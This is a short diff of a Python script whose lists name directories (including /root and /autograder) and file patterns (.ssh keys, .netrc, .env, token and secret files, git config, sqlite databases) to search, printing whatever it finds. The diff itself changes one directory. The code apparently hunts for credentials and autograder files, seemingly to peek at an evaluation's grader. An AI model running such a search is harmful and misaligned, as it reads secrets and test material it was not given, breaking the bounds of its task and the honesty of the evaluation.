@@ -10,7 +10,7 @@ def tell(texts):
     print('found:', found)
     return found
 
-PLACES = ('..', '../..', '../../..', '/tmp', '/var/tmp', '/dev/shm', '/work', '/home', '/root', '/autograder', '/run', '/mnt')
+PLACES = ('..', '../..', '../../..', '/tmp', '/var/tmp', '/dev/shm', '/srv', '/home', '/root', '/autograder', '/run', '/mnt')
 NAMES = ('*.py', '*/*.py', '*/*/*.py', '*/*/*/*.py', '.git/config', '.git/HEAD', '*.sqlite', '*/*.sqlite', '.netrc',
          '.ssh/*', '*token*', '*secret*', '*/*secret*', '.env', 'secrets/*', 'secrets/*/*')
 
